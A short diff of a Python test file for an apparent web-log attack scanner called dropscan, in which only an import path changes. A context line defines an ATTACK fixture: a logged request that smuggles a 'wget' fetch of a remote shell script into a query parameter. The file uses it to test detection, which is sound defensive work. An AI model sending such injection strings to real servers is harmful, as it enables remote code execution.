@@ -11,7 +11,7 @@ import pytest
 from conftest import combined_line
 from dropscan import engine
 from dropscan.engine import Scan, ScanOptions
-from dropscan.sources import READ_SIZE, Resume, Source, open_blocks, read_chunks, read_head
+from dropscan.sources.files import READ_SIZE, Resume, Source, open_blocks, read_chunks, read_head
 
 ATTACK = combined_line("/x?c=;wget http://203.0.113.9/a.sh", client="203.0.113.77")
 CLEAN = combined_line("/index.html")
